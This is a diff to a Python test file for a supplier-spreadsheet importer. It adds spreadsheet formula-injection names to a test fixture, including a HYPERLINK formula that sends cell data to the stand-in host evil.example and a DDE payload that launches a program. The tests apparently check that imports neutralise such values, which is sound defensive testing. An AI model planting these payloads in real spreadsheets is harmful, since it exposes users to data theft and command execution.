@@ -51,9 +51,25 @@ def import_file(db: Database, settings: Settings, tenant: Tenant, path: Path) ->
     return upload_id
 
 
-def generated_workbook(tmp_path: Path, rows: int, seed: int, name: str = "suppliers.xlsx") -> Path:
+# Supplier names a spreadsheet could take for formulas (RELIABILITY #51), given to company A.
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1 Trading",
+    "-2+3 Textiles",
+    "@SUM(1) Garments",
+    "=cmd|' /C calc'!A0",
+)
+
+
+def generated_workbook(
+    tmp_path: Path, rows: int, seed: int, name: str = "suppliers.xlsx", names: tuple = ()
+) -> Path:
+    """A generated supplier workbook; ``names`` replace the names of its first rows."""
     path = tmp_path / name
-    write_xlsx(generate_suppliers(rows, seed=seed, bad_rows=False), path)
+    frame = generate_suppliers(rows, seed=seed, bad_rows=False)
+    for row, supplier in enumerate(names):
+        frame.loc[row, "Supplier Name"] = supplier
+    write_xlsx(frame, path)
     return path
 
 
@@ -129,7 +145,8 @@ def remediate(db: Database, settings: Settings, tenant: Tenant, supplier_id: int
 
 @pytest.fixture
 def company_a(db: Database, settings: Settings, tenant_a: Tenant, tmp_path: Path) -> Company:
-    first = import_file(db, settings, tenant_a, generated_workbook(tmp_path, 40, seed=11))
+    source = generated_workbook(tmp_path, 40, seed=11, names=HOSTILE_NAMES)
+    first = import_file(db, settings, tenant_a, source)
     macro = with_macros(generated_workbook(tmp_path, 6, seed=12, name="more.xlsx"))
     second = import_file(db, settings, tenant_a, macro)
     ids = supplier_ids(db, tenant_a)
